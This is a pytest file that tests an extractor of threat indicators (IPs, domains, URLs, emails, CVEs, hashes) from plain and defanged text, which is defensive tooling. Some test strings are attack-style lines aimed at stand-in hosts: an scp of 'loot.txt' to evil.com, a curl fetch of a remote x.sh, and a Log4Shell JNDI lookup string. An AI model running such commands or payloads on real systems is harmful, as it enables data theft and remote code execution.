"""What is found in free text, plain and defanged."""

from __future__ import annotations

import pytest

from tests.indicators.searching import found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("from 185.220.101.52 port 50432", ["ip 185.220.101.52"]),
        ("1[.]2[.]3[.]4, 5(.)6(.)7(.)8; 9{.}9{.}9{.}9.", ["ip 1.2.3.4", "ip 5.6.7.8", "ip 9.9.9.9"]),
        ("to 1.2.3.4:443 and [2606:4700::1111]:443", ["ip 1.2.3.4", "ip 2606:4700::1111"]),
        ("2606:4700:0:0:0:0:0:1111", ["ip 2606:4700::1111"]),
        ("net 1.2.3.0/24, 2606:4700::/32, one 5.6.7.8/32", ["ip 5.6.7.8"]),
        ("src outside:185.1.2.3/5678 dst inside:45.1.2.3/443", ["ip 185.1.2.3", "ip 45.1.2.3"]),
        ("src=1.2.3.4|dst=5.6.7.8;via=(9.9.9.9)", ["ip 1.2.3.4", "ip 5.6.7.8", "ip 9.9.9.9"]),
        ("ssh root@185.220.101.52", ["ip 185.220.101.52"]),
        ("ssh -p 2222 root@evil.com", ["domain evil.com"]),
        ("scp loot.txt root@evil.com:/tmp", ["domain evil.com"]),
        ("::ffff:8.8.8.8", ["ip 8.8.8.8"]),
        ("open \\\\185.1.2.3\\share\\a.exe", ["ip 185.1.2.3"]),
        ("line\\n1.2.3.4\\r\\nevil.com", ["ip 1.2.3.4", "domain evil.com"]),
        ("curl 45.9.148.3/x.sh", ["ip 45.9.148.3"]),
    ],
)
def test_address__in_text(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "see evil.com.", '"evil.com"', "<evil.com>", "host=evil.com", "evil.com:8080", "evil.com/gate.exe", "EVIL.COM",
        "evil[.]com", "evil[dot]com", "evil(dot)com", "evil{.}com", "evil[ . ]com", "ev\u200bil.com", "evil．com",
        "evil。com", "a,evil.com;b", "**evil.com**", "dns:evil.com",
    ],
)  # fmt: skip
def test_domain__in_text(text: str) -> None:
    assert found(text) == ["domain evil.com"]


@pytest.mark.parametrize(
    "text",
    [
        "http://evil.com/a", "hxxp://evil.com/a", "hXXp://evil[.]com/a", "hxxp[:]//evil[.]com/a", "http[://]evil.com/a",
        "HTTP://EVIL.COM/a", "http://evil.com:80/a", "(see http://evil.com/a).", "[x](http://evil.com/a)",
        "url='http://evil.com/a'", "http://evil.com./a", "go to http://evil.com/a, now",
    ],
)  # fmt: skip
def test_link__in_text_with_its_host(text: str) -> None:
    assert found(text) == ["url http://evil.com/a", "domain evil.com"]


def test_link__keeps_brackets_that_it_opens() -> None:
    assert found("(https://evil.com/x_(y))") == ["url https://evil.com/x_(y)", "domain evil.com"]


def test_link__bare_host_gets_a_path() -> None:
    assert found("https://evil.com?a=1") == ["url https://evil.com/?a=1", "domain evil.com"]


def test_link__list_is_parted() -> None:
    assert found("http://a.com/x,http://b.com/y") == [
        "url http://a.com/x", "domain a.com", "url http://b.com/y", "domain b.com",
    ]  # fmt: skip


def test_link__of_another_protocol_gives_its_host() -> None:
    assert found("${jndi:ldap://45.1.2.3:1389/a} tcp://evil.com:443") == ["ip 45.1.2.3", "domain evil.com"]


def test_link__encoded_in_a_parameter_is_found() -> None:
    assert found("GET /go?u=http%3A%2F%2Fevil.com%2Fa&x=1") == ["url http://evil.com/a", "domain evil.com"]


def test_link__inside_a_link_is_found() -> None:
    assert "url http://evil.com/b" in found("http://a.com/?next=http://evil.com/b")


def test_link__backslash_ends_it_as_in_a_browser() -> None:
    assert found("http://evil.com\\@good.com") == ["url http://evil.com/", "domain evil.com"]


@pytest.mark.parametrize("text", ["bob@evil.com", "Bob[at]Evil[.]com", "mailto:bob@evil.com", "<bob@evil.com>"])
def test_email__in_text_gives_no_domain(text: str) -> None:
    assert found(text) == ["email bob@evil.com"]


@pytest.mark.parametrize("text", ["CVE-2021-44228:", "(cve-2021-44228)", "CVE_2021_44228", "CVE\u20112021\u201144228"])
def test_cve__in_text(text: str) -> None:
    assert found(text) == ["cve CVE-2021-44228"]


MD5 = "44d88612fea8a8f36de82e1278abb02f"
SHA1 = "5f1e8acedc065031aad553b710838eb366cfee9a"
SHA256 = "8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"md5={MD5.upper()}", [f"md5 {MD5}"]),
        (f"SHA-1: {SHA1}", [f"sha1 {SHA1}"]),
        (f"sha256:{SHA256}.", [f"sha256 {SHA256}"]),
        (f"malware file with hash {MD5} seen", [f"md5 {MD5}"]),
        (f"{MD5} (md5)", [f"md5 {MD5}"]),
    ],
)
def test_hash__with_its_word_before_or_after(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    [MD5, f"commit {SHA1}", f"session {MD5}", f"ja3 hash {MD5}", f"container {SHA256}", "md5 " + "0" * 32, f"x{MD5}"],
)
def test_hash__not_without_its_word(text: str) -> None:
    assert found(text) == []
